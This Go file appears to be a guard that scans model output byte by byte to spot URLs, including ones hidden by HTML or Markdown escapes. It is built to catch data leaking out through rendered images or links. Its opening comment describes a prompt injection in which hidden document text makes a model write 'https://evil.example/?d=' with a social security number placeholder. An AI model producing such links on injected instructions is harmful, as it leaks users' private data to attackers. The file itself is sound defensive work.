package guard

import "bytes"

// An addressed follows an answer for addresses: a text that comes back within one is sent to whoever the address belongs to, as soon as an image is shown or
// a link is clicked. What somebody hid in a document has the model write "https://evil.example/?d=[US-SSN 1]", and needs to know the form of placeholders alone.
type addressed struct {
	in     byte   // 0 outside of addresses, else the byte that the address stands behind
	opener byte   // of the word in progress: white space, a quote or a bracket
	value  byte   // what the quote that is the opener stands behind, where it is around a value: "=" of an attribute, others of JSON
	word   bool   // something of it has come
	last   uint64 // bytes, in lower case
	left   int    // bytes until a quote that nobody closes is none; below 0 where it is no prose's
}

// maxAddress bounds an address behind a quote in prose, in bytes. Those of attributes and JSON go on until the quote, as their readers have it.
const maxAddress = 2048

// take takes the next byte.
func (a *addressed) take(c byte) {
	if a.in != 0 {
		if a.left--; a.ends(c) {
			*a = addressed{opener: c}
			return
		}
		a.last = a.last<<8 | uint64(c|0x20)
		return
	}
	switch c {
	case ' ', '\t', '\r', '\n':
		if a.word && a.value != '=' { // a scheme may be cut in attributes
			a.opener, a.value, a.word = ' ', 0, false
		}
		return
	case '"', '\'', '`':
		value := byte(a.last)
		if bytes.IndexByte([]byte("=:,{"), value) < 0 { // "[" is "{" in lower case
			value = 0
		}
		if a.value == '=' && c == a.opener || a.word && value == 0 { // it closes
			c, value = ' ', 0
		}
		*a = addressed{opener: c, value: value}
		return
	case '<', '>', '(':
		*a = addressed{opener: c}
		return
	}
	a.word = true
	a.last = a.last<<8 | uint64(c|0x20)
	if slashed(byte(a.last)) && slashed(byte(a.last>>8)) || (c == ':' || c == ';' || c == '#' || c == '.') && schemed(a.last) {
		if a.in, a.left = max(a.opener, ' '), maxAddress; a.value != 0 {
			a.left = -1
		}
	}
}

// ends reports whether an address ends before c. White space ends none in quotes, as browsers take it out, and in angle brackets a line does and ">"
// behind no backslash. Elsewhere Markdown and HTML without quotes take all but white space for a part of the address.
func (a *addressed) ends(c byte) bool {
	switch a.in {
	case '"', '\'', '`':
		return a.left == 0 || c == a.in
	case '<':
		return c == '\n' || c == '>' && byte(a.last) != '\\'|0x20
	}
	return c == ' ' || c == '\t' || c == '\r' || c == '\n'
}

// slashed reports whether browsers read a byte, of which bit 5 was set, as a slash.
func slashed(c byte) bool { return c == '/' || c == '\\'|0x20 }

// schemed reports whether bytes end in a scheme that needs no slashes behind it, in what Markdown takes for an address without one, or in what can be a part
// of one that is written otherwise: escapes of Markdown and references of HTML.
func schemed(last uint64) bool {
	for _, s := range [...]string{"http:", "https:", "ftp:", "mailto:", "sms:", "script:", "www.", "\\:", "&#", "&colon;", "&sol;", "&bsol;", "&tab;", "newline;"} {
		scheme := uint64(0)
		for _, c := range []byte(s) {
			scheme = scheme<<8 | uint64(c|0x20)
		}
		if last&(1<<(8*len(s))-1) == scheme {
			return true
		}
	}
	return false
}
